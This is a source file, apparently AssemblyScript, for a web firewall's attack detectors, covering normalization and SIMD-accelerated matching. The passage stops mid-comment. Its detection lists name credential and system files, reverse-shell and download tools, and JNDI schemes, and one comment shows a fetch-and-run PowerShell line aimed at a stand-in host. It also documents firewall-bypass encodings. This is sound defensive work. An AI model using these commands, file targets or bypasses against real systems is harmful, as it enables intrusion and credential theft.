// Attack detectors over one value (a query/form parameter, a JSON string, a header, the path). Pure: no
// host calls, no allocation on the hot path (rule names are static strings). Each value is first decoded
// and normalized (repeated/mixed percent-decoding incl. %uXXXX and overlong UTF-8 dots, HTML entities,
// '+' as space, case folding), then tokenized per class:
//   sqli      a small SQL lexer producing libinjection-style fingerprints, tried in three contexts (as is,
//             after a single quote, after a double quote) and from each parameter start of a value that is
//             itself a query string ("id=1 or 1=1"), matched against structural rules
//   xss       an HTML tag/attribute scanner (dangerous and namespaced tags, on* handlers, script URIs, also in
//             CSS values) and attribute-context breakouts; script reached by name (window["alert"]), JSFuck,
//             UTF-7. Embeds and data blocks that run nothing (https iframe players, JSON-LD) are content.
//   traversal dot-dot segments, sensitive absolute files, stream wrappers (php://, file://, phar://)
//   rfi       remote URLs shaped like includes (trailing '?', IP host, script suffix)
//   cmdi      a shell separator followed by a command word, after removing quote/backslash obfuscation;
//             command-running calls (system('id')), inline shell code (sh -c …), bracket-glob paths, PHP code
//             after an open tag, a value that is itself a command line
//   ssrf      URLs whose host is loopback/private/link-local/metadata, in decimal, octal, hex, wrapped
//             (425.510.425.510) or IPv6 forms, also without the slashes (http:127.0.0.1)
//   jndi      ${jndi:…} after resolving nested lookups (${lower:j}, ${::-n}, ${env:X:-d}, …); environment
//             lookups (${env:…}, ${sys:…}, ${java:…})
//   xxe       <!DOCTYPE … [ / <!ENTITY / SYSTEM / XInclude
//   protocol  a line break before a request line, a framing header or a forged response (request smuggling,
//             response splitting), an LDAP filter broken out of
//   ssti      {{…}}, ${…}, #{…}, <%=…%>, {%…%} holding expressions rather than names; EL objects
//             (${application}), Handlebars gadget helpers, Perl @{[ … ]}
// Prose ("select a drop-off point", "O'Brien") and markdown code fences do not trip the SQL/HTML rules.

import { base64TextInto, hexTextInto, base64Value, B64_BLANK } from "./base64text";
import { NeedleSet, inWordList, isIpv6 } from "./pii";
import { oastDomainIn } from "./scanners";
import { SQL_CATALOGS, asciiDigits, asciiLetters, bytesInRange, catalogNameStart, hasSqlWord, holdsRoto, javaClassReference, javaSegment, javaSerializedAt, nodeSerializedBase64At, startsWithCommandPrefix, startsWithProbeWord } from "./prefilter";
export const enum AttackClass {
  Sqli = 0, Xss = 1, Traversal = 2, Rfi = 3, Cmdi = 4, Ssrf = 5, Xxe = 6, Jndi = 7, Ssti = 8,
  Protocol = 9, Malware = 10, Exfiltration = 11, Limits = 12, Graphql = 13, PrototypePollution = 14, SessionFixation = 15, Scanner = 16, None = 255,
}

export const ATTACK_CLASS_NAMES: StaticArray<string> = [
  "sqli", "xss", "traversal", "rfi", "cmdi", "ssrf", "xxe", "jndi", "ssti", "protocol", "malware", "exfiltration", "limits", "graphql",
  "prototype_pollution", "session_fixation", "scanner",
];

export function attackClassName(c: AttackClass): string { return c < <AttackClass>ATTACK_CLASS_NAMES.length ? ATTACK_CLASS_NAMES[<i32>c] : "none"; }

// The rule that matched last (static string: evidence that never carries the matched data).
export let lastRule: string = "";

// (Braces, '$' and brackets too: "$&lbrace;jndi:…&rbrace;" is a lookup once a layer decodes it; a name is tried
// before a shorter name it starts with: "lbrace;" before "lbrace".)
const ENTITY_NAMES: StaticArray<string> = ["lt;", "gt;", "quot;", "apos;", "amp;", "colon;", "tab;", "newline;", "sol;", "lpar;", "rpar;", "equals;", "period;", "bsol;", "grave;", "num;", "excl;", "semi;", "nbsp;", "lt", "gt", "quot", "amp",
  "lbrace;", "rbrace;", "lcub;", "rcub;", "dollar;", "lsqb;", "rsqb;", "lbrace", "rbrace"];
const LIST_CPS_1: StaticArray<i32> = [0x3c, 0x3e, 0x22, 0x27, 0x26, 0x3a, 0x09, 0x0a, 0x2f, 0x28, 0x29, 0x3d, 0x2e, 0x5c, 0x60, 0x23, 0x21, 0x3b, 0x20, 0x3c, 0x3e, 0x22, 0x26,
  0x7b, 0x7d, 0x7b, 0x7d, 0x24, 0x5b, 0x5d, 0x7b, 0x7d]; // &nbsp; separates words like a space
const LIST_NAMES_2: StaticArray<string> = ["script", "iframe", "frame", "frameset", "object", "embed", "applet", "base", "isindex", "xml", "import", "portal", "xss", "vmlframe", "layer", "ilayer"];
// Tags that ordinary markup uses (<meta charset>, <link rel=stylesheet>, <style>, <form action=/search>, icons
// in <svg>): dangerous only with a script vector somewhere in the value (handlers and script URIs are found
// by the attribute rules; these are the vectors particular to them).
const LIST_MARKUP_TAGS: StaticArray<string> = ["svg", "math", "meta", "link", "style", "form", "template", "set", "animate", "handler", "listener"];
const LIST_MARKUP_VECTORS: StaticArray<string> = ["expression(", "@import", "behavior:", "-moz-binding", "http-equiv", "rel=import", "rel=\"import", "<set", "<animate", "<use", "<foreignobject", "<handler", "xlink:href", "formaction", "url(data:", "data:text", "javascript:", "vbscript:", "behaviour:", "text/javascript", "text/ecmascript", "utf-7", "utf7", "attributename=\"on", "attributename=on", "attributename='on"];
const LIST_SCHEMES_3: StaticArray<string> = ["javascript:", "vbscript:", "livescript:", "mocha:", "data:text/html", "data:image/svg+xml", "data:application/x"];
const LIST_FILES_4: StaticArray<string> = ["/run/secrets/", "/serviceaccount/token", "/etc/kubernetes/", "/.aws/credentials", "/.kube/config", "/.bash_history", "/environ", "/etc/passwd", "/etc/shadow", "/etc/hosts", "/etc/group", "/proc/", "/.ssh/", "win.ini", "boot.ini", "system.ini", "system32", "/.env", "/.git/", ".htpasswd", ".htaccess", "web-inf/", "/var/log/", "/etc/issue", "id_rsa", "master.passwd", "/etc/sudoers", "/etc/crontab", "/.docker/", "/.npmrc", "/.git-credentials", "/.netrc", "/etc/mysql/",
  // Shell histories and profiles, boot and server configuration, web server logs (log poisoning), IIS and WordPress secrets.
  "/.bashrc", "/.bash_profile", "/.zsh_history", "/.mysql_history", "/boot/grub/", "/php.ini", "/httpd.conf", "/apache2.conf", "/inetpub/", "/global.asa",
  "/my.cnf", "/access_log", "/error_log", "/logs/access.log", "/logs/error.log", "/wp-config.php", "/etc/ssh/", "/etc/resolv.conf", "/etc/fstab",
  "/etc/nginx/", "/etc/apache2/", "/etc/httpd/",
  // The kernel's view (sysfs), scheduled jobs, cloud CLIs' credentials.
  "/sys/class", "/sys/kernel", "/sys/firmware", "/etc/environment", "/etc/cron.d/", "/.config/gcloud/", "/.azure/"];
// PHP stream wrappers (and Java's jar:file:): each reads a file, an archive member or a command's output where a
// URL or path was expected.
const LIST_WRAPPERS_5: StaticArray<string> = ["php://", "file://", "phar://", "zip://", "expect://", "glob://", "data://", "jar:file:", "compress.zlib://",
  "compress.bzip2://", "ssh2.shell://", "ssh2.exec://", "ssh2.tunnel://", "ssh2.sftp://", "ssh2.scp://", "rar://", "ogg://"];
const LIST_EXTS_6: StaticArray<string> = [".txt", ".php", ".phtml", ".jsp", ".asp", ".aspx", ".pl", ".sh", ".cgi", ".inc"];
const LIST_CMDS_7: StaticArray<string> = [
    "cat", "ls", "id", "whoami", "uname", "wget", "curl", "nc", "ncat", "netcat", "bash", "sh", "zsh", "ksh", "dash", "python", "python3", "perl", "ruby", "php",
    "ping", "nslookup", "dig", "host", "echo", "rm", "chmod", "chown", "sleep", "powershell", "pwsh", "cmd", "cmd.exe", "type", "dir", "net", "ipconfig",
    "ifconfig", "telnet", "busybox", "env", "printenv", "base64", "xterm", "certutil", "systeminfo", "tasklist", "head", "tail", "more", "less", "nohup",
    "passwd", "mkfifo", "socat", "awk", "sed", "find", "touch", "kill", "reboot", "ps", "netstat", "useradd", "crontab", "tftp", "ftp", "scp", "ssh", "whoami.exe",
    "timeout", "hostname", "pwd", "uptime", "tar", "nmap",
    // Less common tools that attackers use to read, fetch, run or persist (names that are not English words).
    "lastlog", "visudo", "sudo", "chattr", "strace", "ltrace", "gdb", "xxd", "base32", "openssl", "setsid",
    "lua", "irb", "tclsh", "jrunscript", "jshell", "gcc", "busybox", "kubectl", "docker", "crictl", "iptables", "ifup", "lsof", "getent",
    "xargs", "egrep", "fgrep", "grep", "readlink", "mknod", "aria2c", "rsync", "finger", "whois", "traceroute", "tracert", "nbtstat",
    "regedit", "reg", "netsh", "wmic", "schtasks", "bitsadmin", "mshta", "rundll32", "regsvr32", "cscript", "wscript", "msiexec", "icacls",
    "takeown", "vssadmin", "bcdedit", "taskkill", "nltest", "net1", "dsquery", "ntdsutil", "sqlcmd", "mysql", "psql", "sqlite3",
    "php7", "php8", "python2", "perl5", "curl.exe", "wget.exe", "bash.exe", "sh.exe", "shred", "srm",
    "wipe", "dmesg", "sysctl", "insmod", "modprobe", "lsmod", "killall", "pkill", "chpasswd", "usermod", "groupadd", "adduser",
    "printf", "rev", "mkdir", "rmdir", "cp", "mv", "ln", "dd", "chroot", "unzip", "gunzip", "bzip2", "zcat", "bzcat", "xz", "7z", "tee", "flock", "bsdtar", "lastlogin",
    // PowerShell's aliases for fetching and running (iwr http://x/p.ps1 | iex).
    "iwr", "iex", "irm", "iwmi", "icm", "saps",
    // Configuration managers and package tools that run code on a host, and tools read through a shell
    // (names with a hyphen are read whole: ansible-playbook).
    "cd", "ansible", "ansible-playbook", "ansible-galaxy", "ansible-inventory", "ansible-console", "ansible-pull", "ansible-vault",
    "ansible-config", "ansible-doc", "chef-client", "chef-run", "chef-vault", "chef-shell", "cscli", "cpulimit", "aptitude", "apt-get",
    "yum", "dnf", "rmt", "rmt-tar", "rmt-dump", "perf",
  ];
const LIST_NEEDLES_8: StaticArray<string> = ["jndi:", "ldap://", "ldaps://", "rmi://", "dns://", "iiop://", "corba:", "nds://", "nis://"];
const LIST_WORDS_9: StaticArray<string> = ["config", "self", "request", "lipsum", "cycler", "joiner", "namespace", "constructor", "import", "popen", "getruntime", "exec(", "eval(", "system(", "class", "freemarker", ".forname", "new(", "t(java", "runtime", "process", "subprocess", "os.", "attr(", "getclass", "file.read", "settings", "dump(", "|filter(", "|map(", "|reduce(", "|sort(", "_self", "app.request"];

// ---- normalization -------------------------------------------------------------------------------------

// Values longer than this are inspected on their first NORM_CAP bytes (body scanners window long text).
export const NORM_CAP: i32 = 8192;
// The buffers the detectors read have NORM_SLACK bytes past NORM_CAP: a 16-byte block loaded at any position
// before the end of what they hold stays inside them (the loops test a value's last block with one load, its
// lanes past the end masked, instead of a dozen tests per byte), and a word's first 8 bytes are one load.
const NORM_SLACK: i32 = 48;
const bufAStore = new StaticArray<u8>(NORM_CAP + NORM_SLACK);
const bufA: usize = changetype<usize>(bufAStore);
const bufBStore = new StaticArray<u8>(NORM_CAP + NORM_SLACK);
const bufB: usize = changetype<usize>(bufBStore);
// The normalized value: where it is and how long.
let normPtr: usize = 0;
let normLen: i32 = 0;

@inline function at(p: usize, i: i32): u32 { return <u32>load<u8>(p + <usize>i); }
@inline function isHex(c: u32): bool { return c - 0x30 < 10 || (c | 0x20) - 0x61 < 6; }
@inline function hexVal(c: u32): u32 { return c - 0x30 < 10 ? c - 0x30 : (c | 0x20) - 0x61 + 10; }
@inline function isDigit(c: u32): bool { return c - 0x30 < 10; }
@inline function isAlpha(c: u32): bool { return c - 0x61 < 26; } // after folding
// Byte kinds of the normalized value, one load instead of a chain of compares: 1 whitespace (with NBSP),
// 2 word byte (letters after folding, digits, '_', '$', and bytes of multi-byte characters), 4 word byte or '.';
// 8 and 16: a URL authority's end and '@' (HOST_STOP, HOST_AT, set by initHostBytes).
const BYTE_KIND = memory.data(256);
function initByteKind(): void {
  for (let c: u32 = 0; c < 256; c++) {
    let k: u8 = 0;
    if (c == 0x20 || c == 0x09 || c == 0x0a || c == 0x0d || c == 0x0b || c == 0x0c || c == 0xa0) k |= 1;
    if (c - 0x30 < 10 || c - 0x61 < 26 || c == 0x5f || c == 0x24 || c >= 0x80) k |= 6;
    if (c == 0x2e) k |= 4;
    store<u8>(BYTE_KIND + <usize>c, k);
  }
}
initByteKind();
@inline function isWordByte(c: u32): bool { return (load<u8>(BYTE_KIND + <usize>(c & 0xff)) & 2) != 0; }
@inline function isSpace(c: u32): bool { return (load<u8>(BYTE_KIND + <usize>(c & 0xff)) & 1) != 0; }

// ASCII that a code point stands for after compatibility mapping (what URL parsers do to host names, and
// what NFKC-normalizing back ends do to input): fullwidth ASCII, circled letters and digits, ideographic
// full stops. 0 when none.
function foldCp(cp: u32): u32 {
  if (cp >= 0xff01 && cp <= 0xff5e) return cp - 0xfee0;        // fullwidth ASCII
  if (cp >= 0x24b6 && cp <= 0x24cf) return cp - 0x24b6 + 0x61; // circled capital letters
  if (cp >= 0x24d0 && cp <= 0x24e9) return cp - 0x24d0 + 0x61; // circled small letters
  if (cp >= 0x2460 && cp <= 0x2468) return cp - 0x2460 + 0x31; // circled digits 1-9
  if (cp == 0x24ea) return 0x30;                                // circled zero
  if (cp == 0x3002 || cp == 0xff61) return 0x2e;                // ideographic full stops
  if (cp == 0x2215 || cp == 0x2044) return 0x2f;                // division and fraction slashes (best-fit '/')
  if (cp == 0x2216) return 0x5c;                                // set minus (best-fit '\\')
  // '¼' and '¾' (0xbc, 0xbe) are '<' and '>' to a server that reads bytes as 7-bit US-ASCII (the high bit
  // dropped): ¼script¾ is a tag there (CRS 941310).
  if (cp == 0xbc) return 0x3c;
  if (cp == 0xbe) return 0x3e;
  return 0;
}

// Writes a code point as UTF-8 (ASCII-folded); returns the new write offset.
function putCp(d: usize, w: i32, cp: u32): i32 {
  if (cp < 0x80) { store<u8>(d + <usize>w, <u8>(cp >= 0x41 && cp <= 0x5a ? cp | 0x20 : cp)); return w + 1; }
  // Fullwidth and circled ASCII fold to ASCII: a common WAF bypass.
  const folded = foldCp(cp);
  if (folded != 0) return putCp(d, w, folded);
  if (w + 3 > NORM_CAP) return w;
  if (cp < 0x800) { store<u8>(d + <usize>w, <u8>(0xc0 | (cp >> 6))); store<u8>(d + <usize>w + 1, <u8>(0x80 | (cp & 63))); return w + 2; }
  store<u8>(d + <usize>w, <u8>(0xe0 | ((cp >> 12) & 15)));
  store<u8>(d + <usize>w + 1, <u8>(0x80 | ((cp >> 6) & 63)));
  store<u8>(d + <usize>w + 2, <u8>(0x80 | (cp & 63)));
  return w + 3;
}

// Named HTML entities that matter for markup and quoting. Returns code point, and sets entLen.
let entLen: i32 = 0;
function namedEntity(p: usize, i: i32, n: i32): i32 {
  // p[i] == '&'. Only the names starting with the next byte are compared (a query string's "&h=100" none).
  const names = ENTITY_NAMES;
  const cps = LIST_CPS_1;
  let cand = load<u32>(entityFirst + (<usize>((at(p, i + 1) | 0x20) & 0xff) << 2));
  while (cand != 0) {
    const k = <i32>ctz(cand);
    cand &= cand - 1;
    const s = unchecked(names[k]);
    const m = s.length;
    if (i + 1 + m > n) continue;
    let j = 0;
    while (j < m && (at(p, i + 1 + j) | 0x20) == ch(s, j)) j++;
    if (j == m) {
      entLen = m + 1;
      // A name written without its ';' is ended by a percent-encoded one ("&amp%3Blpar%3B" once URL-decoded is
      // "&amp;lpar;"): consumed with it, or this pass would leave "&;lpar;".
      if (ch(s, m - 1) != 0x3b && i + 1 + m + 2 < n && at(p, i + 1 + m) == 0x25 && at(p, i + 2 + m) == 0x33 && (at(p, i + 3 + m) | 0x20) == 0x62) entLen += 3;
      return unchecked(cps[k]);
    }
  }
  return -1;
}
const entityFirst = firstByteTable(ENTITY_NAMES);

// An overlong UTF-8 sequence of three to six bytes written as %XX escapes from i (lead byte `lead`, already
// read): the ASCII character it spells (old IIS and Tomcat decoders took them: %e0%80%af, %f0%80%80%af,
// %f8%80%80%80%af, %fc%80%80%80%80%ae), with its length in overlongLength; -1 when it is none.
let overlongLength: i32 = 0;
function overlongEscaped(s: usize, i: i32, n: i32, lead: u32): i32 {
  let more = 0;
  if (lead == 0xe0) more = 2; else if (lead == 0xf0) more = 3; else if (lead == 0xf8) more = 4; else if (lead == 0xfc) more = 5; else return -1;
  let cp: u32 = 0; // the lead bytes above carry no bits of the character
  let j = i + 3;
  for (let k = 0; k < more; k++) {
    if (j + 2 >= n || at(s, j) != 0x25 || !isHex(at(s, j + 1)) || !isHex(at(s, j + 2))) return -1;
    const b = (hexVal(at(s, j + 1)) << 4) | hexVal(at(s, j + 2));
    if ((b & 0xc0) != 0x80) return -1;
    cp = (cp << 6) | (b & 0x3f);
    j += 3;
  }
  if (cp >= 0x80) return -1;
  overlongLength = j - i;
  return <i32>cp;
}

// One decoding pass of (s, n) into d: percent (incl. %uXXXX and overlong %c0%ae), HTML entities, '+'
// as space, NUL dropped, case folded. Returns the new length; sets `changed` when anything was decoded.
let changed = false;
@inline function printableNotPercent(c: u32): bool { return c > 0x20 && c < 0x7f && c != 0x25; }
// "%X%Y%Z" at i: three '%' each before one printable byte that is not '%'; or two, a word of two letters on its
// own ("%O%r 1=1", "%a%S x").
function percentRunAhead(s: usize, i: i32, n: i32): bool {
  if (i + 3 >= n || at(s, i + 2) != 0x25 || !printableNotPercent(at(s, i + 3))) return false;
  if (i + 5 < n && at(s, i + 4) == 0x25 && printableNotPercent(at(s, i + 5))) return true;
  return letterAnyCase(at(s, i + 1)) && letterAnyCase(at(s, i + 3)) && (i + 4 >= n || !(letterAnyCase(at(s, i + 4)) || isDigit(at(s, i + 4)) || at(s, i + 4) == 0x25)) &&
    (i == 0 || !(letterAnyCase(at(s, i - 1)) || isDigit(at(s, i - 1))));
}
@inline function letterAnyCase(c: u32): bool { return (c | 0x20) - 0x61 < 26; } // (decodePass reads bytes before folding)
function decodePass(s: usize, n: i32, d: usize): i32 {
  let w = 0;
  changed = false;
  let i = 0;
  let lastDroppedPercent = -8;
  const memEnd = <usize>memory.size() << 16;
  while (i < n && w < NORM_CAP - 4) {
    if (ASC_FEATURE_SIMD && w + 16 <= NORM_CAP - 4 && s + <usize>i + 16 <= memEnd) {
      // 16 bytes at a time up to the next byte that may need decoding ('%', '&', '+', '\\', NUL, or any byte
      // of a multi-byte character: fullwidth and circled forms fold to ASCII): letters folded to lower case in
      // the vector, the rest copied (the stores past that byte are overwritten next). The last block of a value
      // is loaded whole too (the bytes past n, still memory, count as stops): short values and tails took a
      // dozen tests per byte in the loop below.
      const v = v128.load(s + <usize>i);
      let special = i8x16.bitmask(v128.or(v128.or(v128.or(i8x16.eq(v, i8x16.splat(0x25)), i8x16.eq(v, i8x16.splat(0x26))),
        v128.or(i8x16.eq(v, i8x16.splat(0x2b)), i8x16.eq(v, i8x16.splat(0)))), i8x16.eq(v, i8x16.splat(0x5c)))) | i8x16.bitmask(v);
      if (n - i < 16) special |= 0xffff << <u32>(n - i);
      const upper = bytesInRange(v, 0x41, 26);
      v128.store(d + <usize>w, v128.or(v, v128.and(upper, i8x16.splat(0x20))));
      const k = special == 0 ? 16 : ctz(special);
      i += k; w += k;
      if (k == 16 || i >= n) continue;
    }
    let c = at(s, i);
    if (c == 0x25 && i + 2 < n + 0 && i + 2 <= n - 1 + 0 && isHex(at(s, i + 1)) && isHex(at(s, i + 2))) {
      c = (hexVal(at(s, i + 1)) << 4) | hexVal(at(s, i + 2));
      // Overlong encodings of '.', '/', '\' (%c0%ae, %c0%af, %c1%9c, and the longer %e0%80%af … %fc%80%80%80%80%ae):
      // decoded as the character.
      if (c >= 0xe0 && i + 8 < n && at(s, i + 3) == 0x25) {
        const cp = overlongEscaped(s, i, n, c);
        if (cp >= 0) { w = putCp(d, w, <u32>cp); i += overlongLength; changed = true; continue; }
      }
      if ((c == 0xc0 || c == 0xc1 || c == 0xe0) && i + 5 < n && at(s, i + 3) == 0x25 && isHex(at(s, i + 4)) && isHex(at(s, i + 5))) {
        const c2 = (hexVal(at(s, i + 4)) << 4) | hexVal(at(s, i + 5));
        const cp = ((c & 0x1f) << 6) | (c2 & 0x3f);
        if (cp < 0x80) { w = putCp(d, w, cp); i += 6; changed = true; continue; }
      }
      i += 3;
      changed = true;
      if (c == 0) continue;
      // %a0 (a no-break space byte on its own, not inside a UTF-8 sequence) separates words like a space.
      if (c == 0xa0 && (w == 0 || load<u8>(d + <usize>(w - 1)) < 0x80)) c = 0x20;
      if (c >= 0x41 && c <= 0x5a) c |= 0x20;
      store<u8>(d + <usize>(w++), <u8>c);
      continue;
    }
    if (c == 0x25 && i + 5 < n && (at(s, i + 1) | 0x20) == 0x75 && isHex(at(s, i + 2)) && isHex(at(s, i + 3)) && isHex(at(s, i + 4)) && isHex(at(s, i + 5))) {
      const cp = (hexVal(at(s, i + 2)) << 12) | (hexVal(at(s, i + 3)) << 8) | (hexVal(at(s, i + 4)) << 4) | hexVal(at(s, i + 5));
      i += 6; changed = true;
      if (cp != 0) w = putCp(d, w, cp);
      continue;
    }
    // IIS and classic ASP drop a '%' that starts no escape: "%S%E%L%E%C%T" is SELECT to them (sqlmap's
    // percentage). Dropped in a run of such pairs only (three ahead, or right after a dropped one): "100% sure",
    // "<%= x %>", "%c1%pc" and a lone "%s" keep theirs.
    if (c == 0x25 && i + 1 < n && printableNotPercent(at(s, i + 1)) && (i == lastDroppedPercent + 2 || percentRunAhead(s, i, n))) {
      lastDroppedPercent = i;
      i++; changed = true;
      continue;
    }
    // JavaScript escapes in a raw value (\u0027, \x3c): what a script context would read.
    if (c == 0x5c && i + 5 < n && at(s, i + 1) == 0x75 && isHex(at(s, i + 2)) && isHex(at(s, i + 3)) && isHex(at(s, i + 4)) && isHex(at(s, i + 5))) {
      const cp = (hexVal(at(s, i + 2)) << 12) | (hexVal(at(s, i + 3)) << 8) | (hexVal(at(s, i + 4)) << 4) | hexVal(at(s, i + 5));
      i += 6; changed = true;
      if (cp != 0) w = putCp(d, w, cp);
      continue;
    }
    if (c == 0x5c && i + 3 < n && at(s, i + 1) == 0x78 && isHex(at(s, i + 2)) && isHex(at(s, i + 3))) {
      const cp = (hexVal(at(s, i + 2)) << 4) | hexVal(at(s, i + 3));
      i += 4; changed = true;
      if (cp != 0) w = putCp(d, w, cp);
      continue;
    }
    if (c == 0x26 && i + 2 < n) { // &
      if (at(s, i + 1) == 0x23) { // &#NN; &#xHH;
        let j = i + 2;
        let cp: u32 = 0;
        let digits = 0;
        if ((at(s, j) | 0x20) == 0x78) {
          j++;
          while (j < n && isHex(at(s, j)) && digits < 8) { cp = (cp << 4) | hexVal(at(s, j)); j++; digits++; }
        } else {
          while (j < n && isDigit(at(s, j)) && digits < 8) { cp = cp * 10 + (at(s, j) - 0x30); j++; digits++; }
        }
        if (digits > 0 && cp <= 0x10ffff) {
          if (j < n && at(s, j) == 0x3b) j++;
          else if (j + 2 < n && at(s, j) == 0x25 && at(s, j + 1) == 0x33 && (at(s, j + 2) | 0x20) == 0x62) j += 3; // %3B
          i = j; changed = true;
          if (cp != 0) w = putCp(d, w, cp < 0x10000 ? cp : 0x3f);
          continue;
        }
      } else {
        const cp = namedEntity(s, i, n);
        if (cp >= 0) { i += entLen; changed = true; w = putCp(d, w, <u32>cp); continue; }
      }
    }
    // Raw three-byte UTF-8 for a foldable code point (ⓛⓞⓒⓐⓛⓗⓞⓢⓣ, １２７。０。０。１).
    if ((c == 0xe2 || c == 0xe3 || c == 0xef) && i + 2 < n) {
      const cp = ((c & 15) << 12) | ((at(s, i + 1) & 63) << 6) | (at(s, i + 2) & 63);
      const folded = (at(s, i + 1) & 0xc0) == 0x80 && (at(s, i + 2) & 0xc0) == 0x80 ? foldCp(cp) : 0;
      if (folded != 0) { w = putCp(d, w, folded); i += 3; changed = true; continue; }
    }
    // '¼' and '¾' in UTF-8, or the bytes 0xbc and 0xbe alone after ASCII (see foldCp).
    if (c == 0xc2 && i + 1 < n && (at(s, i + 1) == 0xbc || at(s, i + 1) == 0xbe)) { store<u8>(d + <usize>(w++), <u8>(at(s, i + 1) == 0xbc ? 0x3c : 0x3e)); i += 2; changed = true; continue; }
    if ((c == 0xbc || c == 0xbe) && (i == 0 || at(s, i - 1) < 0x80)) { store<u8>(d + <usize>(w++), <u8>(c == 0xbc ? 0x3c : 0x3e)); i++; changed = true; continue; }
    if (c == 0x2b) { sawPlus = true; if (plusAsSpace) c = 0x20; }
    else if (c == 0) { i++; continue; }
    else if (c >= 0x41 && c <= 0x5a) c |= 0x20;
    store<u8>(d + <usize>(w++), <u8>c);
    i++;
  }
  return w;
}

// Normalizes (p, n): up to four decoding passes (double/triple encoding), result in normPtr/normLen.
export function normalize(p: usize, n: i32): void {
  sawPlus = false;
  let len = decodePass(p, n < NORM_CAP ? n : NORM_CAP, bufA);
  rawHadPlus = sawPlus;
  let src = bufA;
  let dst = bufB;
  // Later passes read what the first decoded: a '+' there came from %2B. Read as a blank (a value decoded
  // twice as a form), unless keepDecodedPlus asks for the plus sign it also is.
  const plus = plusAsSpace;
  if (keepDecodedPlus) plusAsSpace = false;
  sawPlus = false;
  for (let pass = 0; pass < 3 && changed; pass++) {
    len = decodePass(src, len, dst);
    const t = src; src = dst; dst = t;
  }
  decodedPlus = sawPlus;
  plusAsSpace = plus;
  normPtr = src;
  normLen = len;
}

// ---- helpers over the normalized value -------------------------------------------------------------------

@inline function nb(i: i32): u32 { return i >= 0 && i < normLen ? <u32>load<u8>(normPtr + <usize>i) : 0; }

// A needle's j-th code unit, read from the string's memory (charCodeAt checks bounds on every call; the
// callers stay within the needle).
@inline function ch(s: string, j: i32): u32 { return <u32>load<u16>(changetype<usize>(s) + (<usize>j << 1)); }

// ---- SIMD skipping -------------------------------------------------------------------------------------------
// Each detector acts only at a few kinds of bytes ('<' and quotes for XSS, separators for cmdi, ...). With SIMD
// its loop jumps to the next such byte 16 bytes at a time; the code at the byte itself is unchanged (and is
// all the scalar build runs). A byte set is a 16-byte table: bit h of entry lo is set when the ASCII byte
// (h << 4 | lo) is in the set; membership of 16 bytes is two table lookups (swizzles).
function byteSet(chars: string): usize {
  const t = heap.alloc(16);
  memory.fill(t, 0, 16);
  for (let k = 0; k < chars.length; k++) {
    const c = <u32>chars.charCodeAt(k);
    const slot = t + <usize>(c & 15);
    store<u8>(slot, <u8>(<u32>load<u8>(slot) | (<u32>1 << (c >> 4))));
  }
  return t;
}
@inline function inSetMask(v: v128, set: v128): i32 {
  const row = v128.swizzle(set, v128.and(v, i8x16.splat(0x0f)));
  const bit = v128.swizzle(i8x16(1, 2, 4, 8, 16, 32, 64, -128, 0, 0, 0, 0, 0, 0, 0, 0), i8x16.shr_u(v, 4));
  return i8x16.bitmask(i8x16.ne(v128.and(row, bit), i8x16.splat(0)));
}
// From i (16 bytes readable at base + i): the first position in [i, i + 16) whose byte is in `set`, or i + 16.
@inline function skipToSet(base: usize, i: i32, set: usize): i32 {
  const m = inSetMask(v128.load(base + <usize>i), v128.load(set));
  return m == 0 ? i + 16 : i + ctz(m);
}
// The lanes of a block loaded at i that lie before `end`.
@inline function lanesBefore(i: i32, end: i32): i32 { return end - i >= 16 ? 0xffff : (1 << (end - i)) - 1; }
// For a detector's byte loop over a buffer with NORM_SLACK spare bytes: the first position at or after i whose
// byte is in `set`, 16 bytes at a time (the last block too, its lanes past `end` masked); `end` when the set's
// bytes are not there. Without SIMD the loop tests every byte itself (the position returned is i).
@inline function nextInSet(base: usize, i: i32, end: i32, set: usize): i32 {
  if (ASC_FEATURE_SIMD) {
    const t = v128.load(set);
    while (i < end) {
      const m = inSetMask(v128.load(base + <usize>i), t) & lanesBefore(i, end);
      if (m != 0) return i + ctz(m);
      if (end - i <= 16) return end;
      i += 16;
    }
  }
  return i;
}
// Per first byte, a bit per name of `list` that starts with it (at most 32 names: one u32 per byte value).
function firstByteTable(list: StaticArray<string>): usize {
  assert(list.length <= 32, "a first-byte table holds 32 names");
  const t = heap.alloc(256 * 4);
  memory.fill(t, 0, 256 * 4);
  for (let k = 0; k < list.length; k++) {
    const a = t + (<usize>list[k].charCodeAt(0) << 2);
    store<u32>(a, load<u32>(a) | (1 << <u32>k));
  }
  return t;
}
const SET_XSS = byteSet("<\"' \t\n\r\x0b\x0c"); // and 0xa0, tested apart (not ASCII)
const SET_DOT = byteSet(".");
const SET_EQ = byteSet("=");
// The next '.', '(' or '=' from i, or -1: single bytes 16 at a time (indexOf reads a one-byte needle byte by byte).
@inline function nextDot(i: i32): i32 { const k = nextInSet(normPtr, i, normLen, SET_DOT); return k < normLen ? k : -1; }
@inline function nextEq(i: i32): i32 { const k = nextInSet(normPtr, i, normLen, SET_EQ); return k < normLen ? k : -1; }
const SET_CMD = byteSet(";\n`|&$<>\x1a");
const SET_TEMPLATE_NEXT = byteSet("{%");

function startsAt(i: i32, s: string): bool {
  const m = s.length;
  if (i < 0 || i + m > normLen) return false;
  for (let j = 0; j < m; j++) if (nb(i + j) != ch(s, j)) return false;
  return true;
}

// First occurrence of needle s in the normalized value at or after `from`, or -1. Candidates are the
// positions holding the needle's first two bytes, found 16 at a time with SIMD (the detectors search long
// values — markup, documents — for dozens of needles).
function indexOf(s: string, from: i32): i32 {
  const m = s.length;
  if (m == 0) return from;
  if (from < 0) from = 0;
  const c0 = ch(s, 0);
  let i = from;
  if (ASC_FEATURE_SIMD && m >= 2) {
    const v0 = i8x16.splat(<i8>c0), v1 = i8x16.splat(<i8>ch(s, 1));
    // Vector loads read [i, i + 17), past normLen on the last block (NORM_SLACK): a hit there has k + m > normLen.
    while (i + 1 < normLen) {
      let hits = i8x16.bitmask(v128.and(i8x16.eq(v128.load(normPtr + <usize>i), v0), i8x16.eq(v128.load(normPtr + <usize>i + 1), v1)));
      while (hits != 0) {
        const k = i + ctz(hits);
        if (k + m > normLen) return -1;
        let j = 2;
        while (j < m && <u32>load<u8>(normPtr + <usize>(k + j)) == ch(s, j)) j++;
        if (j == m) return k;
        hits &= hits - 1;
      }
      i += 16;
    }
  }
  for (; i + m <= normLen; i++) {
    if (<u32>load<u8>(normPtr + <usize>i) != c0) continue;
    let j = 1;
    while (j < m && <u32>load<u8>(normPtr + <usize>(i + j)) == ch(s, j)) j++;
    if (j == m) return i;
  }
  return -1;
}
@inline function has(s: string): bool { return indexOf(s, 0) >= 0; }

// Regions inside markdown code fences (```) are documentation, not input to an interpreter: the SQL and
